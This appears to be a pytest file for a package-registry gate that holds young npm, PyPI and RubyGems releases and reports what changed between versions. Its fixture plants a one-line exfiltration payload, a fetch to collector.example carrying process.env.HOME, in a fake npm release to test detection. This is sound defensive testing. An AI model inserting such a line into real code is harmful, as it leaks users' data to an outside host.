"""The page about a release, over the wire."""

import asyncio
import hashlib
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote

import pytest

from pratique.gate.api.release_page import PATH
from pratique.store.record import Seen
from tests.gate import gem_clients, python_clients
from tests.gate.inside import Raw, ask, inside, listening
from tests.loopback import LoopbackRegistry, NpmPackage, NpmRelease

SENDS = "fetch('https://collector.example/' + process.env.HOME)\n"
SCOPED = NpmPackage(
    name="@acme/tool",
    releases=(
        NpmRelease(version="1.0.0", files={"index.js": "exports.n = 0\n"}),
        NpmRelease(version="1.1.0", files={"index.js": SENDS}, published_at=gem_clients.YOUNG),
    ),
)
NOT_READ = "not allowed yet: the gate judges a file when a client requests it"


@pytest.fixture
def registry() -> Iterator[LoopbackRegistry]:
    with LoopbackRegistry(npm=[SCOPED], pypi=[python_clients.KITE], gems=[gem_clients.KITE]) as running:
        (Path.home() / ".npmrc").write_text(f"registry={running.npm_url}\n")
        python_clients.configure(running)
        gem_clients.configure(running.gem_url)
        yield running


async def page(address: tuple[str, int], purl: str, before: str = "") -> Raw:
    query = f"?purl={quote(purl, safe=':/@')}" + (f"&from={quote(before)}" if before else "")
    return await ask(address, f"GET {PATH}{query} HTTP/1.1")


RELEASES = {
    "npm": ("pkg:npm/@acme/tool@{}", "1.1.0", "tool-1.1.0.tgz"),
    "pypi": ("pkg:pypi/kite@{}", "1.2.0", "kite-1.2.0-py3-none-any.whl"),
    "rubygems": ("pkg:gem/kite@{}", "1.2.0", "kite-1.2.0.gem"),
}


@pytest.mark.parametrize(("purl", "young", "filename"), RELEASES.values(), ids=RELEASES)
def test_the_page_of_each_ecosystem_says_what_is_held_and_what_was_not_judged_yet(
    registry: LoopbackRegistry, purl: str, young: str, filename: str
) -> None:
    async def run() -> tuple[Raw, Raw, int]:
        async with inside() as gate, listening(gate.gate) as address:
            held = await page(address, purl.format(young), "1.0.0")
            free = await page(address, purl.format("1.0.0"))
            return held, free, len(gate.decisions)

    held, free, decisions = asyncio.run(run())

    assert (200, "text/plain; charset=utf-8", "nosniff") == (
        held.status,
        held.headers["content-type"],
        held.headers["x-content-type-options"],
    )
    assert f"  {filename}: hold: " in held.body.decode()
    assert "published 20 h ago; the cooldown is 72 h [too-young]" in held.body.decode()
    assert (
        "Changes: this gate has not inspected both releases yet. To compare them, run: pratique diff"
        in held.body.decode()
    )
    assert NOT_READ in free.body.decode()
    # A look at a page is no download.
    assert 0 == decisions
    assert not [seen for seen in registry.requests if seen.path.endswith((".tgz", ".whl", ".gem"))]


def test_files_that_the_gate_has_read_are_compared_without_another_request(
    registry: LoopbackRegistry,
) -> None:
    async def run() -> tuple[str, str]:
        async with inside(fresh_s=60) as gate, listening(gate.gate) as address:
            for version in ("1.0.0", "1.1.0"):
                await gate.tarball("@acme/tool", version)
            asked = len(registry.requests)
            first, again = [
                await page(address, "pkg:npm/@acme/tool@1.1.0", before) for before in ("1.0.0", '"1.0.0"')
            ]
            assert asked == len(registry.requests)
            allowed = await page(address, "pkg:npm/@acme/tool@1.0.0")
            assert first.body == again.body
            return first.body.decode(), allowed.body.decode()

    changed, allowed = asyncio.run(run())

    assert "tool-1.0.0.tgz -> tool-1.1.0.tgz" in changed
    assert "network" in changed
    assert "https://collector.example/" in changed
    assert (
        "To show the changed lines, run: pratique diff @acme/tool@1.0.0 @acme/tool@1.1.0 --patch" in changed
    )
    assert "tool-1.0.0.tgz: allow: this gate allowed the file before, and does not refuse it now" in allowed


def test_bytes_that_are_known_and_were_not_allowed_are_not_called_allowed(registry: LoopbackRegistry) -> None:
    [file] = [file for file in gem_clients.KITE.files if file.version == "1.0.0"]
    seen = Seen(
        purl="pkg:gem/kite@1.0.0",
        filename="kite-1.0.0.gem",
        sha256=hashlib.sha256(file.data).hexdigest(),
        sha512=hashlib.sha512(file.data).hexdigest(),
        sha1=hashlib.sha1(file.data, usedforsecurity=False).hexdigest(),
        size_bytes=len(file.data),
        first_seen=datetime(2026, 1, 1, tzinfo=UTC),
        registry=registry.gem_url,
    )

    async def run() -> str:
        async with inside() as gate, listening(gate.gate) as address:
            gate.gate.listings.store.artifacts.remember([seen])
            assert gate.gate.listings.store.artifacts.seen(seen.purl, seen.filename) is not None
            return (await page(address, seen.purl)).body.decode()

    assert f"kite-1.0.0.gem: {NOT_READ}" in asyncio.run(run())


@pytest.mark.parametrize(
    ("query", "status", "words"),
    [
        ("", 400, "pkg:"),
        ("?purl=pkg:npm/@acme/tool", 400, "does not specify a release"),
        ("?purl=pkg:cargo/x@1", 400, "the package type is not one of"),
        ("?purl=pkg:npm/@acme/tool@9.9.9", 404, "the registry does not list @acme/tool@9.9.9"),
        ("?purl=pkg:npm/nobody@1.0.0", 404, "nobody"),
        (f"?purl=pkg:npm/@acme/tool@1.0.0&from={'1' * 300}", 400, "does not specify a release"),
        ("?purl=pkg:npm/@acme/tool@1.0.0&from=%1b%5b31m", 400, "does not specify a release"),
    ],
)
def test_what_is_no_release_is_refused_in_words(
    registry: LoopbackRegistry, query: str, status: int, words: str
) -> None:
    async def run() -> Raw:
        async with inside() as gate, listening(gate.gate) as address:
            return await ask(address, f"GET {PATH}{query} HTTP/1.1")

    answer = asyncio.run(run())

    assert status == answer.status
    assert words in json.loads(answer.body)["error"]


def test_a_page_is_only_read(registry: LoopbackRegistry) -> None:
    async def run() -> int:
        async with inside() as gate, listening(gate.gate) as address:
            return (await ask(address, f"POST {PATH} HTTP/1.1\r\nContent-Length: 0")).status

    assert 405 == asyncio.run(run())
